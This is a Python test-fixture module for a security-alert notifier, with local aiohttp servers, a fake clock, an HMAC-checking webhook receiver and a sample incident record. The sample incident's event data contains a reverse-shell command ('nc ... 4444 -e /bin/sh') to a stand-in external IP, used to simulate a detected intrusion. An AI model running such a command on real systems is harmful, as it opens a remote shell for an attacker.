"""Real local HTTP servers for notifier tests (127.0.0.1, port 0) and sample incidents."""

from __future__ import annotations

import asyncio
import copy
import hashlib
import hmac
import socket
import time
from collections import Counter, deque
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any

import orjson
from aiohttp import web

__all__ = [
    "FakeTime",
    "LocalServer",
    "WebhookReceiver",
    "closed_port_url",
    "make_incident",
]

_BASE_INCIDENT: dict[str, Any] = {
    "id": "0" * 32,
    "status": "new",
    "correlation": "Shell then outbound connection",
    "type": "sequence",
    "severity": "Critical",
    "output": "Shell in kubecon (default) then connection to 203.0.113.7:4444",
    "key": {"container.id": "ee97d9c4186f"},
    "count": 1,
    "first_seen": "2023-05-25T13:44:05.478445995Z",
    "last_seen": "2023-05-25T13:46:01.000000000Z",
    "events": [
        {
            "step": "shell",
            "uuid": "8b3b6e3c-1c0e-4e8f-9c59-5f6c1a0b0001",
            "time": "2023-05-25T13:44:05.478445995Z",
            "rule": "Terminal shell in container",
            "priority": "Notice",
            "hostname": "falco-xczjd",
            "output": "13:44:05.478445995: Notice A shell was spawned in a container",
            "output_fields": {
                "container.id": "ee97d9c4186f",
                "proc.cmdline": "sh -c clear; (bash || ash || sh)",
                "proc.name": "sh",
                "k8s.ns.name": "default",
                "k8s.pod.name": "kubecon",
                "user.loginuid": -1,
                "container.image.tag": None,
            },
            "tags": ["container", "shell", "mitre_execution"],
        },
        {
            "step": "connect",
            "uuid": "8b3b6e3c-1c0e-4e8f-9c59-5f6c1a0b0002",
            "time": "2023-05-25T13:46:01Z",
            "rule": "Outbound Connection to C2 Servers",
            "priority": "Critical",
            "hostname": "falco-xczjd",
            "output": "13:46:01: Critical Outbound connection to C2 server",
            "output_fields": {
                "container.id": "ee97d9c4186f",
                "proc.cmdline": "nc 203.0.113.7 4444 -e /bin/sh",
                "fd.name": "10.0.0.5:51234->203.0.113.7:4444",
            },
            "tags": ["network", "mitre_command_and_control"],
        },
    ],
    "tags": ["mitre_execution", "mitre_command_and_control"],
    "context": {
        "hostname": "falco-xczjd",
        "k8s.ns.name": "default",
        "k8s.pod.name": "kubecon",
        "container.id": "ee97d9c4186f",
        "container.name": "kubecon",
        "container.image.repository": "docker.io/library/alpine",
        "container.image.tag": "3.20",
    },
    "enrichment": {},
    "detected_at": "2023-05-25T13:46:02.000000000Z",
    "ruleset": "5f1d0c3a",
}


def make_incident(index: int = 0, **changes: Any) -> dict[str, Any]:
    """A realistic incident record (RULES-SPEC section 5); `index` gives a distinct id."""
    incident = copy.deepcopy(_BASE_INCIDENT)
    incident["id"] = hashlib.md5(str(index).encode()).hexdigest()
    namespace = changes.pop("namespace", None)
    if namespace is not None:
        incident["context"]["k8s.ns.name"] = namespace
    incident.update(changes)
    return incident


def closed_port_url(path: str = "/hook") -> str:
    """A loopback URL nobody listens on: connections are refused."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    return f"http://127.0.0.1:{port}{path}"


class FakeTime:
    """An injectable monotonic clock whose sleep advances it instantly (and yields)."""

    def __init__(self, start: float = 1000.0) -> None:
        self.now = start
        self.sleeps: list[float] = []

    def clock(self) -> float:
        return self.now

    def wall(self) -> float:
        return 1_700_000_000.0 + self.now

    async def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)
        self.now += seconds
        await asyncio.sleep(0)


class LocalServer:
    """An aiohttp app on 127.0.0.1 with an OS-chosen port; `async with` starts and stops it."""

    def __init__(self, app: web.Application, ssl_context: Any = None) -> None:
        self.app = app
        self.ssl_context = ssl_context
        self._runner = web.AppRunner(app, handle_signals=False)
        self.port = 0

    @property
    def url(self) -> str:
        scheme = "https" if self.ssl_context is not None else "http"
        return f"{scheme}://127.0.0.1:{self.port}"

    async def __aenter__(self) -> LocalServer:
        await self._runner.setup()
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.bind(("127.0.0.1", 0))
        self.port = sock.getsockname()[1]
        site = web.SockSite(self._runner, sock, ssl_context=self.ssl_context)
        await site.start()
        return self

    async def __aexit__(self, *exc: object) -> None:
        await self._runner.cleanup()


@dataclass
class Delivery:
    path: str
    at: float
    key: str
    body: bytes
    timestamp: str
    signature: str

    @property
    def incident_id(self) -> str:
        data = orjson.loads(self.body)
        return str(data["id"]) if isinstance(data, dict) and "id" in data else ""


@dataclass
class WebhookReceiver:
    """Verifies HMAC signatures, records every request, plays scripted faults.

    Faults (one per request, in order): an HTTP status as a string ("500", "429", "400"),
    optionally with its own Retry-After ("503|120"), or "slow" (accept, then answer after
    `slow_seconds`, beyond the client's timeout).
    """

    secret: str | None = None
    faults: Iterable[str] = ()
    retry_after: str = "1"
    slow_seconds: float = 1.0
    signature_header: str = "X-Falco-Signature"
    timestamp_header: str = "X-Falco-Timestamp"
    requests: list[Delivery] = field(default_factory=list)
    accepted: list[Delivery] = field(default_factory=list)
    bad_signatures: int = 0
    in_flight: int = 0
    max_in_flight: int = 0

    def __post_init__(self) -> None:
        self._faults = deque(self.faults)

    def app(self) -> web.Application:
        app = web.Application()
        app.router.add_route("*", "/{path:.*}", self.handle)
        return app

    def keys(self) -> Counter[str]:
        return Counter(d.key for d in self.accepted)

    def valid_signature(self, timestamp: str, body: bytes, signature: str) -> bool:
        assert self.secret is not None
        if not timestamp.isdigit() or abs(time.time() - int(timestamp)) > 300:
            return False
        expected = hmac.new(
            self.secret.encode(), timestamp.encode() + b"." + body, hashlib.sha256
        ).hexdigest()
        return hmac.compare_digest(f"sha256={expected}", signature)

    async def handle(self, request: web.Request) -> web.Response:
        body = await request.read()
        delivery = Delivery(
            path=request.path,
            at=time.monotonic(),
            key=request.headers.get("Idempotency-Key", ""),
            body=body,
            timestamp=request.headers.get(self.timestamp_header, ""),
            signature=request.headers.get(self.signature_header, ""),
        )
        self.requests.append(delivery)
        if self.secret is not None and not self.valid_signature(
            delivery.timestamp, body, delivery.signature
        ):
            self.bad_signatures += 1
            return web.Response(status=401, text="bad signature")
        fault = self._faults.popleft() if self._faults else None
        if fault is not None and fault != "slow":
            status, _, retry_after = fault.partition("|")
            retry_after = retry_after or self.retry_after
            headers = {"Retry-After": retry_after} if status in {"429", "503"} else {}
            return web.Response(status=int(status), text=f"fault {status}", headers=headers)
        self.in_flight += 1
        self.max_in_flight = max(self.max_in_flight, self.in_flight)
        try:
            self.accepted.append(delivery)
            await asyncio.sleep(self.slow_seconds if fault == "slow" else 0.02)
        finally:
            self.in_flight -= 1
        return web.Response(status=200, text="ok")
